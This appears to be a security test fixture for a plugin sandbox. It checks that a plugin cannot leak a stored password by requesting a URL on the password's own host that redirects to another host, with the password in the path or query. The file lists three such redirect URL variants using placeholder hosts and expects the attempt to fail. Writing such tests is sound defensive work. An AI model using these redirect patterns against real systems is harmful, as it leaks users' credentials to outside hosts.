// Tries: to have the password's own host send it on: an address to go to next, with the password in it.
// Keeps: a redirect to another host that carries the value is not followed.
// Hosts: {HOLDER} {OTHER}
// Variant: http://{HOLDER}/to?http%3A%2F%2F{OTHER}%2Fecho%2F{{password}}
// Variant: http://{HOLDER}/to?http%3A%2F%2F{OTHER}%2Fecho%3Fp%3D{{password}}
// Variant: http://{HOLDER}/to-keeping?http%3A%2F%2F{OTHER}%2Fecho%3Fp%3D{{password}}
// Outcome: PluginFault
// Ledger: secret
// Requests: 1
exports.sync = function (hub) {
    hub.http.get(hub.settings.variant);
    hub.log("broke out");
};
